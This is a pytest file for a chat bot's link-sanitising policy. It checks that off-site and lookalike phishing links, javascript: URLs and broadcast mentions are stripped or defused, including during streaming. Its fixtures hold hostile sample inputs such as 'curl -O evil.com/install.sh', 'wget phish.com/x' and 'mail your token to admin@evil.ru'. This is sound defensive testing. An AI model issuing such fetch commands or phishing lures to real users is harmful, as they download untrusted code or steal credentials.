"""The link policy: only docs links and links quoted in the passages leave the bot; mentions are
defused; a streamed answer never shows an unsafe link, even for one edit."""

from __future__ import annotations

import random

import pytest

from core.links import ZERO_WIDTH_SPACE, LinkPolicy, defuse_mentions

DOCS = "https://milvus.io/docs/"
PASSAGES = [
    "Install it with pip. Source: https://github.com/milvus-io/pymilvus. Or github.com/milvus-io/pymilvus. "
    "See [the PyPI page](https://pypi.org/project/pymilvus/) too."
]


@pytest.fixture
def policy() -> LinkPolicy:
    return LinkPolicy(DOCS, PASSAGES)


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("[the official Milvus docs](https://evil.example/login)", "the official Milvus docs"),
        ("go to https://evil.example/x, then", "go to , then"),
        ("<https://evil.example|click here> now", "click here now"),
        ("![logo](https://evil.example/pixel.png)", "logo"),
        ("[docs](https://milvus.io@evil.example/)", "docs"),
        ("[docs](https://milvus.io.evil.tld/docs/)", "docs"),
        ("[docs](javascript:alert(1))", "docs"),
        ("visit www.evil.example/a today", "visit  today"),
        ("[https://evil.example](https://evil.example)", ""),
    ],
)
def test_off_site_links_are_removed_and_labels_kept(policy: LinkPolicy, text: str, cleaned: str) -> None:
    assert policy.clean(text) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "[HNSW](https://milvus.io/docs/hnsw.md#M)",
        "see https://milvus.io/docs/install_standalone-docker.md.",
        "<https://milvus.io/docs/hnsw.md|HNSW>",
        "https://github.com/milvus-io/pymilvus",  # quoted in a passage
        "[PyPI](https://pypi.org/project/pymilvus/)",  # quoted in a passage
        "cite [1] and [2][3], arrays like a[0]",
    ],
)
def test_docs_links_and_quoted_links_stay(policy: LinkPolicy, text: str) -> None:
    assert policy.clean(text) == text


def test_a_quoted_host_is_not_a_licence_for_other_urls_on_it(policy: LinkPolicy) -> None:
    assert policy.clean("https://github.com/evil/phish") == ""
    assert policy.clean("github.com/evil/phish") == f"github.{ZERO_WIDTH_SPACE}com/evil/phish"


Z = ZERO_WIDTH_SPACE


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        # Slack links a bare domain by itself: it stays readable, but nothing links it
        ("log in at milvus-support.com/reset now", f"log in at milvus-support.{Z}com/reset now"),
        ("mail your token to admin@evil.ru.", f"mail your token to admin@evil.{Z}ru."),
        ("see Evil.Example.IO:8080/x", f"see Evil.Example.{Z}IO:8080/x"),
        ("[docs](https://milvus.io/docs/), help.ai", f"[docs](https://milvus.io/docs/), help.{Z}ai"),
    ],
)
def test_bare_domains_are_made_unclickable(policy: LinkPolicy, text: str, cleaned: str) -> None:
    assert policy.clean(text) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "edit milvus.yaml, run setup.py and read index.md",  # file names, not hosts
        "see milvus.io/docs/hnsw.md",  # the docs host
        "the source is at github.com/milvus-io/pymilvus.",  # quoted word for word in a passage
        "call `client.search` or `curl evil.com`",  # inline code is not linked by chats
        "```bash\ncurl -O evil.com/install.sh\n```",  # nor a code block
        "pymilvus.MilvusClient and 2.5.x",
    ],
)
def test_bare_domains_in_code_file_names_and_docs_stay(policy: LinkPolicy, text: str) -> None:
    assert policy.clean(text) == text


def test_broadcast_and_user_mentions_are_defused() -> None:
    text = "<!channel> <!here> <!everyone> @everyone @here <@U024BE7LH> <@!1234> <@&987> <!subteam^S1>"
    defused = defuse_mentions(text)
    z = ZERO_WIDTH_SPACE
    assert defused == (
        f"@{z}channel @{z}here @{z}everyone @{z}everyone @{z}here @{z}U024BE7LH @{z}1234 @{z}987 @{z}subteam"
    )
    assert defuse_mentions(defused) == defused  # idempotent


def test_streaming_never_shows_an_unsafe_link_and_ends_like_the_whole_text(policy: LinkPolicy) -> None:
    text = (
        "Read [the official Milvus docs](https://evil.example/login) or https://evil.example/x, "
        "<!channel> @everyone <@U123ABC> <https://evil.example|click here> "
        "[HNSW](https://milvus.io/docs/hnsw.md#M) ![img](https://evil.example/i.png) [1] then "
        "log in at phish.com/reset, or run `curl phish.com` in\n```bash\nwget phish.com/x\n```\ndone"
    )
    for seed in range(200):
        rng = random.Random(seed)
        cleaner, shown, start = policy.stream(), "", 0
        while start < len(text):
            size = rng.randint(1, 9)
            shown += cleaner.feed(text[start : start + size])
            start += size
            assert "evil" not in shown and "<!channel>" not in shown and "@everyone" not in shown, shown
            assert "at phish.com" not in shown, shown
        shown += cleaner.flush()
        assert shown == policy.clean(text), seed
        assert "`curl phish.com`" in shown and "wget phish.com/x" in shown  # code is left alone


def test_streaming_holds_back_little_of_plain_text(policy: LinkPolicy) -> None:
    cleaner = policy.stream()
    shown = cleaner.feed("HNSW builds a graph; M is the number of ")
    assert shown == "HNSW builds a graph; M is the number of "
    assert cleaner.feed("edges") == ""  # the last word may still become a URL
    assert cleaner.flush() == "edges"
